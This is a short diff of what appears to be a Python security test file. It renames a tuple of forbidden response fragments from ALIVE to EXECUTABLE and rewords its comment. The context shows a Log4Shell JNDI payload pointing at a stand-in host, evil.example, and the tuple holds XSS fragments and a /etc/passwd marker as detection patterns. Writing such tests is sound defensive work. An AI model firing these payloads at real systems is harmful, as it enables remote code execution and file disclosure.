@@ -51,5 +51,5 @@ HOSTILE: dict[str, str] = {
     "log4j": "${jndi:ldap://evil.example/a}",
 }
 
-# What must not be anywhere in an answer, whatever was sent: markup that is alive, or a template that was computed.
-ALIVE = ("<script>evil", "<script src=//evil", "<img src=x", "<svg/onload", "94011", "root:x:0:0")
+# What must not be in any answer, whatever was sent: markup that a browser would run, or a template that was computed.
+EXECUTABLE = ("<script>evil", "<script src=//evil", "<img src=x", "<svg/onload", "94011", "root:x:0:0")
